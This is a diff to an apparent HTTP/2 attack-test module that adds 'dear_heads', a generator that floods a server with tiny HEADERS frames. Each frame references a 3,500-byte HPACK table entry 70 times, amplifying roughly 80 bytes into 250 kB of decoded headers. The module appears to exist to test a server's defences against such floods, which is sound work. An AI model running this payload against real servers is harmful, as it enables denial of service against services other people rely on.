@@ -84,6 +84,22 @@ def hpack_bomb() -> Chunks:
         stream += 2
 
 
+def dear_heads() -> Chunks:
+    """Heads of 250 kB in 80 bytes each, behind as many frames as are looked at of any connection and DATA that
+    is cheap to parse: so that a read of them is taken for one of those."""
+    indexed = b"\x40" + f.literal(b"x-bomb", b"v" * 3500)[1:]
+    yield f.frame(f.HEADERS, f.END_HEADERS, 1, f.block(fields(b"/empty", b"POST")) + indexed)
+    yield f.frame(f.UNKNOWN) * 300
+    yield f.data(1, bytes(16_000)) * 4
+    stream = 3
+    while True:
+        yield b"".join(
+            f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, each, f.block(fields(b"/empty")) + b"\xbe" * 70)
+            for each in range(stream, stream + 200, 2)
+        )
+        stream += 200
+
+
 def long_header_lists() -> Chunks:
     """Heads of 100 kB, over what is allowed and below what ends a connection."""
     stream = 1
@@ -161,6 +177,7 @@ ATTACKS: Final[dict[str, Attack]] = {
     "continuation_flood": Attack(continuation_flood),
     "empty_continuations": Attack(empty_continuations),
     "hpack_bomb": Attack(hpack_bomb),
+    "dear_heads": Attack(dear_heads),
     "long_header_lists": Attack(long_header_lists),
     # A length beyond what we take is an error of decoding (RFC 7541 5.1), and that is COMPRESSION_ERROR
     # (RFC 9113 4.3). It is told at the length, with not a byte of the value taken: see bombs.py.
